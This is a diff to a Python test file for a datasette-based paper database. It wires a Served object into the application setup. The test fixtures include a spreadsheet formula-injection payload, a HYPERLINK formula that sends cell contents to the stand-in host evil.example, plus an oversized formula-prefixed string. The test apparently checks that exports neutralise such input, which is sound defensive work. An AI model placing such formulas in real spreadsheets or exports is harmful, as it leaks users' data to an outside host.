@@ -16,6 +16,7 @@ from hypothesis import strategies as st
 from db import spreadsheets
 from db.pages import application
 from db.spreadsheets import harmless
+from graph.site.served import Served
 
 EVIL = (
     '=HYPERLINK("http://evil.example?x="&A1,"Error")',
@@ -45,7 +46,7 @@ def get(tmp_path):
         connection.execute("UPDATE papers SET title = ? WHERE id = ?", (EVIL[0], BETA))
         connection.execute("UPDATE papers SET citation_count = -5 WHERE id = ?", (GAMMA,))
         connection.execute("UPDATE answers SET request = ?", ('"=' + "x" * 200_000,))
-    datasette = application(path)
+    datasette = application(path, Served)
     with asyncio.Runner() as runner:
 
         def page(address: str) -> httpx.Response:
